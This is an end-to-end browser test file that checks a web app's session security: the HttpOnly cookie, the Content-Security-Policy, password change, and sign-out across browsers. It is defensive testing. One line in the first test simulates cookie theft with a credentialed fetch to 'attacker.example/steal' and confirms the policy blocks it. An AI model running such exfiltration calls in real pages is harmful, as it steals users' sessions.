// The browser's session is an HttpOnly cookie no script on the page can read; the app passes its
// own Content-Security-Policy; "sign out everywhere" in one browser closes another browser's
// co-editing connection and subscriptions at once; changing the password retires the old one.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { api, BASE_URL, launch, newUser, shot, signIn, tokenFor } from '../lib.mjs';

let env;
let person;
let opsObjective;
const FIRST_PASSWORD = 'first password for e2e';
const SECOND_PASSWORD = 'a much better passphrase';

before(async () => {
  env = await launch();
  // Its own person (Operations member): this spec changes the password and signs out everywhere.
  const ceo = await tokenFor('ceo@demo.test');
  const { units, objectives } = await api(
    '{ units { id name } objectives { id title unit { name } } }',
    {},
    ceo,
  );
  const ops = units.find((u) => u.name === 'Operations');
  opsObjective = objectives.find((o) => o.unit.name === 'Operations');
  assert.ok(ops && opsObjective, 'the demo has Operations and an Operations objective');
  const email = `session.e2e.${Date.now()}@demo.test`;
  const { createPerson } = await api(
    `mutation($i: CreatePersonInput!) { createPerson(input: $i) { id name email } }`,
    { i: { email, name: 'Sasha Okafor', title: 'Planner', unitId: ops.id, password: FIRST_PASSWORD } },
    ceo,
  );
  person = createPerson;
});
after(async () => {
  await env?.close();
});

/** Records CSP violations (the page's own event) and console errors from the first script on. */
async function watchCsp(page) {
  const console = [];
  page.on('console', (m) => m.type() === 'error' && console.push(m.text()));
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  return {
    async violations() {
      const events = await page.evaluate(() => window.__csp ?? []);
      return [...events, ...console.filter((t) => /Content Security Policy/i.test(t))];
    },
  };
}

/** A GraphQL call with a password, as a script would (for checking which password works). */
async function loginResult(email, password) {
  const res = await fetch(BASE_URL + '/graphql', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      query: 'mutation($e: String!, $p: String!) { login(email: $e, password: $p) { person { id } } }',
      variables: { e: email, p: password },
    }),
  });
  return res.json();
}

test('no script on the page can read the session, and the app passes its Content-Security-Policy', async () => {
  const context = await env.browser.newContext({ viewport: { width: 1440, height: 900 }, baseURL: BASE_URL });
  context.setDefaultTimeout(15_000);
  const page = await context.newPage();
  const problems = [];
  page.on('pageerror', (e) => problems.push(String(e)));
  const csp = await watchCsp(page);
  const first = await page.goto('/');
  const policy = first.headers()['content-security-policy'];
  assert.match(policy, /default-src 'self'/);
  assert.match(policy, /script-src 'self'/);
  assert.match(policy, /frame-ancestors 'none'/);
  assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval/);
  assert.equal(first.headers()['x-content-type-options'], 'nosniff');
  assert.ok(first.headers()['referrer-policy']);
  await signIn(page, person.email, FIRST_PASSWORD);

  // The cookie exists, HttpOnly and SameSite=Lax; the page's scripts see none of it.
  const cookie = (await context.cookies()).find((c) => c.name === 'throughline_session');
  assert.ok(cookie, 'the session cookie is set');
  assert.equal(cookie.httpOnly, true);
  assert.equal(cookie.sameSite, 'Lax');
  const seen = await page.evaluate(() => ({
    cookie: document.cookie,
    local: Object.keys(localStorage).map((k) => k + '=' + localStorage.getItem(k)),
    session: Object.keys(sessionStorage).map((k) => k + '=' + sessionStorage.getItem(k)),
  }));
  assert.doesNotMatch(seen.cookie, /throughline_session|tls_/);
  assert.ok(
    !seen.local.concat(seen.session).some((v) => v.includes(cookie.value) || /tls_/.test(v)),
    JSON.stringify(seen),
  );
  // …and a script's own request cannot take it elsewhere: fetch to another origin carries no cookie
  // (and the CSP refuses it outright).
  const exfiltrated = await page.evaluate(async () => {
    try {
      await fetch('https://attacker.example/steal', { credentials: 'include' });
      return 'sent';
    } catch {
      return 'refused';
    }
  });
  assert.equal(exfiltrated, 'refused');

  // The app works through the cookie: screens with charts, the editor, live updates.
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  await page.goto(`/objectives/${opsObjective.id}`);
  await page.getByRole('heading', { name: opsObjective.title, level: 1 }).waitFor();
  await page.locator('.ProseMirror[data-field="description"]').waitFor({ timeout: 20_000 });
  await page.locator('.presence .live-dot:not(.off)').waitFor({ timeout: 20_000 });
  for (const path of ['/map', '/portfolio', '/meetings', '/account']) {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
  }
  await page.goto('/');
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  const violations = await csp.violations();
  // The one refusal we provoked above (connect-src to attacker.example) is the only violation.
  assert.deepEqual(
    violations.filter((v) => !/attacker\.example/.test(v)),
    [],
    'no CSP violation while using the app',
  );
  assert.deepEqual(problems, []);
  await context.close();
});

test('change password on the Account page: wrong current password is said beside the field; then the old password fails', async () => {
  const a = await newUser(env.browser, person.email, { password: FIRST_PASSWORD });
  // A second browser (tablet-sized), so the account page lists more than one session.
  const other = await newUser(env.browser, person.email, {
    password: FIRST_PASSWORD,
    width: 820,
    height: 1180,
  });
  await a.page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Account' }).click();
  await a.page.getByRole('heading', { name: 'Account', level: 1 }).waitFor();
  const sessions = a.page.getByRole('list', { name: 'Sessions' });
  // This browser, the tablet, and the first test's (its window closed, the session lives on).
  await sessions.getByRole('listitem').nth(2).waitFor();
  assert.equal(await sessions.getByRole('listitem').count(), 3);
  assert.equal(await sessions.getByText('This browser').count(), 1);
  await shot(a.page, 'account-laptop');
  await other.page.goto('/account');
  await other.page.getByRole('list', { name: 'Sessions' }).getByRole('listitem').nth(1).waitFor();
  await shot(other.page, 'account-tablet');

  const form = a.page.getByRole('form', { name: 'Change password' });
  await form.getByLabel('Current password').fill('not my password');
  await form.getByLabel('New password', { exact: true }).fill(SECOND_PASSWORD);
  await form.getByLabel('Repeat the new password').fill(SECOND_PASSWORD);
  await form.getByRole('button', { name: 'Change password' }).click();
  await form.getByText('That is not your current password.').waitFor();
  assert.equal(await form.getByLabel('Current password').getAttribute('aria-invalid'), 'true');

  await form.getByLabel('Current password').fill(FIRST_PASSWORD);
  await form.getByRole('button', { name: 'Change password' }).click();
  await a.page.getByText('Your password was changed.').waitFor();
  // This browser stays signed in; the other one was signed out.
  await a.page.reload();
  await a.page.getByRole('heading', { name: 'Account', level: 1 }).waitFor();
  await other.page.reload();
  await other.page.getByRole('heading', { name: 'Sign in' }).waitFor();
  const old = await loginResult(person.email, FIRST_PASSWORD);
  assert.equal(old.errors?.[0]?.extensions?.code, 'UNAUTHENTICATED');
  const fresh = await loginResult(person.email, SECOND_PASSWORD);
  assert.equal(fresh.data?.login?.person?.id, person.id);
  assert.deepEqual(a.problems, []);
  await a.context.close();
  await other.context.close();
});

test('"sign out everywhere" in one browser closes the other browser’s co-editing connection and live updates at once', async () => {
  const one = await newUser(env.browser, person.email, { password: SECOND_PASSWORD });
  const two = await newUser(env.browser, person.email, { password: SECOND_PASSWORD });
  await one.page.goto(`/objectives/${opsObjective.id}`);
  const editor = one.page.locator('.ProseMirror[data-field="description"]');
  await editor.waitFor({ timeout: 20_000 });
  await one.page.locator('.presence .live-dot:not(.off)').waitFor({ timeout: 20_000 });

  await two.page.goto('/account');
  await two.page.getByRole('button', { name: 'Sign out everywhere' }).click();
  const started = Date.now();
  await two.page.getByRole('alertdialog').getByRole('button', { name: 'Sign out everywhere' }).click();
  await two.page.getByRole('heading', { name: 'Sign in' }).waitFor();
  // Browser one: its editor's connection is closed (it says so) or the app is back at sign-in.
  await one.page
    .getByText('Your session ended: sign in again')
    .or(one.page.getByRole('heading', { name: 'Sign in' }))
    .first()
    .waitFor({ timeout: 5_000 });
  const tookMs = Date.now() - started;
  await shot(one.page, 'signed-out-everywhere');
  await one.page.getByRole('heading', { name: 'Sign in' }).waitFor({ timeout: 10_000 });
  assert.ok(tookMs < 5_000, `browser one noticed within seconds (${tookMs} ms)`);
  // The old cookie is refused by the server too (not just forgotten by the app).
  await one.page.goto('/account');
  await one.page.getByRole('heading', { name: 'Sign in' }).waitFor();
  assert.deepEqual(one.problems, []);
  assert.deepEqual(two.problems, []);
  await one.context.close();
  await two.context.close();
});
